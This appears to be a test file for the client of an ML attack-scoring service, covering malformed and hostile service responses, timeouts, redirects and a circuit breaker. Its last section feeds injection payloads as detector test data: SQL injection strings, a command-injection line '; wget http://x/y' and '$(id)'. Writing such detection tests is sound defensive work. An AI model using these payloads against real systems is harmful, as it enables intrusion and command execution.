import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import { AppError } from '../../src/core/errors.ts';
import { emptyHistory } from '../../src/core/history.ts';
import type { RemoteScorer, ScoreInput } from '../../src/core/scorer.ts';
import { contractRanges, toContractFeatures } from '../../src/score/contract-features.ts';
import { createRemoteScorer } from '../../src/score/remote-scorer.ts';
import { aDraft, anAgentDraft } from '../support/drafts.ts';
import {
  answers,
  drips,
  floods,
  goodAnswer,
  hangs,
  type Manner,
  type MlService,
  openMlService,
  resets,
} from '../support/ml-service.ts';

const input = (over: Partial<ScoreInput> = {}): ScoreInput => ({
  event: aDraft(),
  history: emptyHistory,
  session: null,
  baseline: null,
  ...over,
});
const isUnavailable = (error: unknown): boolean => error instanceof AppError && error.code === 'unavailable';

describe('the client of an ML service', () => {
  let service: MlService;
  const scorers: RemoteScorer[] = [];
  const scorer = (over: Partial<Parameters<typeof createRemoteScorer>[0]> = {}): RemoteScorer => {
    const made = createRemoteScorer({ url: service.url, limitMs: 600, ...over });
    scorers.push(made);
    return made;
  };

  before(async () => {
    service = await openMlService();
  });
  after(() => service.close());
  afterEach(async () => {
    service.behave(answers(goodAnswer));
    service.asked.length = 0;
    for (const one of scorers.splice(0)) await one.close();
  });

  it('sends six numbers and the raw fields, and takes the answer', async () => {
    const verdict = await scorer().judge(
      input({
        event: anAgentDraft(),
        history: {
          ...emptyHistory,
          events: 4,
          failed_logins: 3,
          first_ms: Date.parse('2026-11-25T07:58:00Z'),
        },
      }),
    );
    assert.deepEqual(service.asked, [
      {
        failed_logins: 3,
        request_rate: 3,
        commands_count: 0,
        sql_payload: 0,
        honeytoken_access: 1,
        session_time: 120,
        service: 'endpoint_agent',
        source_ip: 'fileserver',
        activity: 'ACCESSED',
        payload: 'passwords.xlsx',
        hostname: 'fileserver',
        username: 'mallory',
        file_accessed: 'passwords.xlsx',
      },
    ]);
    assert.equal(verdict.attack_type, 'BruteForce');
    assert.equal(verdict.risk_score, 9);
    assert.equal(verdict.confidence, 0.93);
    assert.equal(verdict.is_anomaly, true);
    assert.equal(verdict.scored_by, 'ml_api');
  });

  it('takes what our own service says beyond the contract, where it has the right shape', async () => {
    service.behave(
      answers({
        ...goodAnswer,
        reasons: ['many failures', 7, ''],
        evidence: [
          { reason: 0, field: 'payload', text: 'x' },
          { reason: 9, field: 'payload', text: 'x' },
          null,
        ],
        tactics: ['Credential Access'],
        techniques: ['T1110.001', '<script>'],
        model: '2026.11.1',
      }),
    );
    const verdict = await scorer().judge(input());
    assert.deepEqual(verdict.reasons, ['many failures']);
    assert.deepEqual(verdict.evidence, [{ reason: 0, field: 'payload', text: 'x' }]);
    assert.deepEqual(verdict.techniques, ['T1110.001']);
    assert.equal(verdict.model, '2026.11.1');
  });

  const nested = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
  const lies: [string, unknown][] = [
    ['no object', '[1]'],
    ['null', 'null'],
    ['nothing', ''],
    ['no JSON', '<html>busy</html>'],
    ['JSON that breaks off', '{"attack_type":"Normal",'],
    ['JSON nested 20,000 deep', nested],
    ['a type nobody knows', { ...goodAnswer, attack_type: 'constructor' }],
    ['a type that is no text', { ...goodAnswer, attack_type: ['BruteForce'] }],
    ['a risk of 11', { ...goodAnswer, risk_score: 11 }],
    ['a risk of 0', { ...goodAnswer, risk_score: 0 }],
    ['a risk of -1', { ...goodAnswer, risk_score: -1 }],
    ['a risk of 7.5', { ...goodAnswer, risk_score: 7.5 }],
    ['a risk as text', { ...goodAnswer, risk_score: '9' }],
    ['NaN, which is no JSON', '{"attack_type":"Normal","risk_score":NaN,"confidence":1,"is_anomaly":false}'],
    [
      'a risk beyond all numbers',
      '{"attack_type":"Normal","risk_score":1e999,"confidence":1,"is_anomaly":false}',
    ],
    ['a confidence of 1.01', { ...goodAnswer, confidence: 1.01 }],
    ['a confidence as text', { ...goodAnswer, confidence: '0.9' }],
    ['no confidence', { ...goodAnswer, confidence: undefined }],
    ['an anomaly of 1', { ...goodAnswer, is_anomaly: 1 }],
    ['an anomaly score as text', { ...goodAnswer, anomaly_score: 'high' }],
  ];
  for (const [what, answer] of lies)
    it(`does not believe ${what}`, async () => {
      service.behave(answers(answer));
      await assert.rejects(scorer().judge(input()), isUnavailable);
    });

  const evils: [string, Manner][] = [
    ['hangs', hangs],
    ['resets the connection', resets],
    ['drips a byte at a time', drips],
    ['answers 50 MB', floods],
    ['answers 500', answers({ detail: 'broken' }, 500)],
    ['answers 422', answers({ detail: 'no' }, 422)],
    ['answers 204', (_request, response) => response.writeHead(204).end()],
  ];
  for (const [what, manner] of evils)
    it(`gives up on a service that ${what}`, async () => {
      service.behave(manner);
      await assert.rejects(scorer().judge(input()), isUnavailable);
    });

  it('gives up on a service that is not there', async () => {
    const gone = await openMlService();
    await gone.close();
    await assert.rejects(scorer({ url: gone.url }).judge(input()), isUnavailable);
  });

  it('follows no redirect', async () => {
    const elsewhere = await openMlService();
    try {
      service.behave((_request, response) =>
        response.writeHead(307, { location: `${elsewhere.url}/predict` }).end(),
      );
      await assert.rejects(scorer().judge(input()), isUnavailable);
      assert.equal(elsewhere.asked.length, 0);
    } finally {
      await elsewhere.close();
    }
  });

  it('stops when its caller does', async () => {
    service.behave(hangs);
    const abort = new AbortController();
    const judged = scorer({ limitMs: 60_000 }).judge(input(), abort.signal);
    setTimeout(() => abort.abort(), 20);
    await assert.rejects(judged, isUnavailable);
    await assert.rejects(scorer({ limitMs: 60_000 }).judge(input(), AbortSignal.abort()), isUnavailable);
  });

  describe('has a breaker that', () => {
    it('opens after five failures in a row, asks nobody, and closes when a probe is answered', async () => {
      let nowMs = 0;
      const states: string[] = [];
      const one = scorer({ clock: () => nowMs, onState: (state) => states.push(state) });
      service.behave(answers('no', 500));
      for (let i = 0; i < 5; i++) {
        assert.equal(one.state, 'closed');
        await assert.rejects(one.judge(input()), isUnavailable);
      }
      assert.equal(one.state, 'open');
      await assert.rejects(one.judge(input()), isUnavailable);
      nowMs = 29_999;
      await assert.rejects(one.judge(input()), isUnavailable);
      assert.equal(service.asked.length, 5);

      nowMs = 30_000;
      const probe = one.judge(input());
      assert.equal(one.state, 'half-open');
      await assert.rejects(one.judge(input()), isUnavailable);
      await assert.rejects(probe, isUnavailable);
      assert.equal(one.state, 'open');
      assert.equal(service.asked.length, 6);

      nowMs = 60_000;
      service.behave(answers(goodAnswer));
      await one.judge(input());
      assert.equal(one.state, 'closed');
      assert.deepEqual(states, ['open', 'closed']);
    });

    it('does not count failures with a success between them', async () => {
      const one = scorer();
      for (let i = 0; i < 12; i++) {
        service.behave(i % 4 === 3 ? answers(goodAnswer) : answers('no', 500));
        await one.judge(input()).catch(() => undefined);
      }
      assert.equal(one.state, 'closed');
    });

    it('does not blame the service for a caller in a hurry', async () => {
      service.behave(hangs);
      const one = scorer({ limitMs: 60_000 });
      for (let i = 0; i < 8; i++)
        await assert.rejects(one.judge(input(), AbortSignal.timeout(5)), isUnavailable);
      assert.equal(one.state, 'closed');
    });
  });
});

describe('the six numbers of the contract', () => {
  it('stay within their ranges whatever the past was', () => {
    const wild = { ...emptyHistory, events: 1e9, failed_logins: 1e9, commands: 1e9, first_ms: Number.NaN };
    for (const history of [emptyHistory, wild, { ...wild, first_ms: -1e15 }, { ...wild, first_ms: 1e15 }]) {
      const features = toContractFeatures(input({ history }));
      for (const [name, [least, greatest]] of Object.entries(contractRanges)) {
        const value = features[name as keyof typeof features];
        assert.ok(Number.isInteger(value) && value >= least && value <= greatest, `${name} = ${value}`);
      }
    }
  });

  for (const payload of [
    "' OR '1'='1",
    '1 UNION ALL SELECT password FROM users',
    '; wget http://x/y',
    '$(id)',
  ])
    it(`sees an attack in ${payload}`, () => {
      assert.equal(toContractFeatures(input({ event: aDraft({ payload }) })).sql_payload, 1);
    });
  for (const payload of ['', 'GET /index.html', "it's fine", 'select your seat'])
    it(`sees none in ${JSON.stringify(payload)}`, () => {
      assert.equal(toContractFeatures(input({ event: aDraft({ payload }) })).sql_payload, 0);
    });
});
